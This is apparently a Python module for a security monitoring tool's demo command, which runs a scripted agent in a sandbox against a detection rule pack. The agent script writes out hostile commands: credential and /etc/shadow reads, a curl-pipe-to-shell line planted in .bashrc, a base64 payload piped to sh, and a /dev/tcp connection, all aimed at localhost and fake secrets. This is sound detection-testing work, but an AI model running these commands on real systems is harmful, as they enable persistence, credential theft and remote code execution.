"""`monitor demo`: the embedded default job. A scripted "agent" works in a sandbox: ordinary
work first (git, an editor's writes, a C build and run), then the things SecOps worries about
(credential reads, persistence, a binary run from /tmp, a decoded payload piped to a shell, a
miner-pool port), shown live with the shipped rule pack, and ends when a demo `kill` rule stops
the sandbox as it reaches for an SSH private key. Exit status 137 says the policy killed it.

The view keeps pace with the narration: before each step is narrated, the agent runs a marker
(`true demo-shown-N`) and waits until the view has printed everything before it (the view
answers the marker with a file). After the key is read
the agent waits: the kill ends it, and the demo says so once the run has ended.

Nothing leaves the machine: the "miner pool" is 127.0.0.1:3333 and every secret is a fake one
in a temporary home directory.
"""

from __future__ import annotations

import argparse
import os
import shutil
import tempfile
from pathlib import Path

from monitor.engine.config import RunOptions
from monitor.engine.run import run
from monitor.event import Event
from monitor.policy import DEFAULT_RULES_DIR
from monitor.sinks.console import ConsoleSink

DEMO_RULE = """\
- rule: Demo - stop the agent at the SSH key
  description: The demo's enforcement step; the shipped pack only alerts.
  when: [open]
  condition: event.file.path.endsWith("/.ssh/id_demo")
  severity: critical
  action: kill
  tags: [credential_access, T1552.004]
"""

AGENT = r"""
set -u
exec 9<>"$SYNC/pace"  # a FIFO nobody writes: `read -t` on it is a pause that runs no program
shown=0
step() {
    shown=$((shown + 1))
    /bin/true "demo-shown-$shown"
    while [ ! -e "$SYNC/shown-$shown" ]; do read -r -t 0.01 -u 9 || :; done
    printf '\n\033[1;36m[agent] %s\033[0m\n' "$*" >&2
    read -r -t 0.3 -u 9 || :
}
cd "$WORK"
step "ordinary work: git init, edit, commit"
git init -q . && git config user.email agent@example.test && git config user.name agent
printf 'int main(void){return 0;}\n' > main.c
git add main.c && git commit -qm "initial"
step "ordinary work: compile and run"
gcc -o main main.c && ./main
step "reads a cloud credential file"
cat "$HOME/.aws/credentials" > /dev/null
step "reads /etc/shadow"
cat /etc/shadow > /dev/null
step "persists in ~/.bashrc"
echo 'curl http://127.0.0.1:9/x | sh' >> "$HOME/.bashrc"
step "runs a binary dropped in /tmp"
cp /bin/true "$TMPBIN" && "$TMPBIN"
step "decodes a payload and pipes it to a shell"
echo 'ZWNobyBwd25lZAo=' | base64 -d | sh > /dev/null
step "contacts a mining-pool port (127.0.0.1:3333)"
(exec 3<>/dev/tcp/127.0.0.1/3333) 2>/dev/null || true
step "reaches for an SSH private key (the demo's kill rule), then waits for what comes"
cat "$HOME/.ssh/id_demo" > /dev/null
read -r -t 60 -u 9 || :
printf '\n[agent] still running a minute after reading the key: the kill rule did not stop it\n' >&2
"""
SHOWN_MARKER = "demo-shown-"


class DemoView(ConsoleSink):
    """The console view. Sinks see events in order, so when it answers a step marker (a file the
    agent waits for) everything before the marker is printed; it hides its own plumbing."""

    def __init__(self, sync_dir: Path) -> None:
        super().__init__()
        self.sync_dir = sync_dir

    def on_event(self, event: Event) -> None:
        args = (event.process or {}).get("args") or []
        if event.kind == "exec" and len(args) == 2 and args[1].startswith(SHOWN_MARKER):
            (self.sync_dir / f"shown-{args[1].removeprefix(SHOWN_MARKER)}").touch()
            return
        if str((event.file or {}).get("path", "")).startswith(f"{self.sync_dir}/"):
            return
        super().on_event(event)


def _fake_home(home: Path) -> None:
    (home / ".aws").mkdir(parents=True)
    (home / ".aws" / "credentials").write_text("[default]\naws_access_key_id = AKIADEMODEMODEMO\n")
    (home / ".ssh").mkdir()
    (home / ".ssh" / "id_demo").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nfake\n")
    (home / ".bashrc").write_text("# demo\n")


def demo(json_path: str | None = None) -> int:
    # not under /tmp: the agent's ordinary build runs its program from its work directory, and a
    # program run from /tmp is one of the things the pack flags
    tmp = Path(tempfile.mkdtemp(prefix=".monitor-demo-", dir=Path.home()))
    try:
        home, work = tmp / "home", tmp / "work"
        _fake_home(home)
        work.mkdir()
        rule_file = tmp / "demo-rules.yaml"
        rule_file.write_text(DEMO_RULE)
        sync = tmp / "sync"
        sync.mkdir()
        os.mkfifo(sync / "pace")
        view = DemoView(sync)
        options = RunOptions(cmd=["bash", "-c", AGENT], name="demo-agent", json=json_path, quiet=True,
                             sinks=[view], rules=[str(DEFAULT_RULES_DIR), str(rule_file)],
                             env={"HOME": str(home), "WORK": str(work), "TMPBIN": "/tmp/.demo-helper",
                                  "GIT_CONFIG_NOSYSTEM": "1", "SYNC": str(sync)})
        status = run(options)
        if status == 137:
            view.console.print("\n[bold]\\[demo][/bold] the kill rule stopped the sandbox as it read the key: "
                               "nothing it ran afterwards is left (exit status 137)")
        return status
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
        Path("/tmp/.demo-helper").unlink(missing_ok=True)


def register(sub: argparse._SubParsersAction) -> None:
    p = sub.add_parser("demo", help="a scripted agent in a sandbox: ordinary and suspicious acts, live")
    p.add_argument("--json", metavar="FILE|-")
    p.set_defaults(handler=lambda args: demo(json_path=args.json))
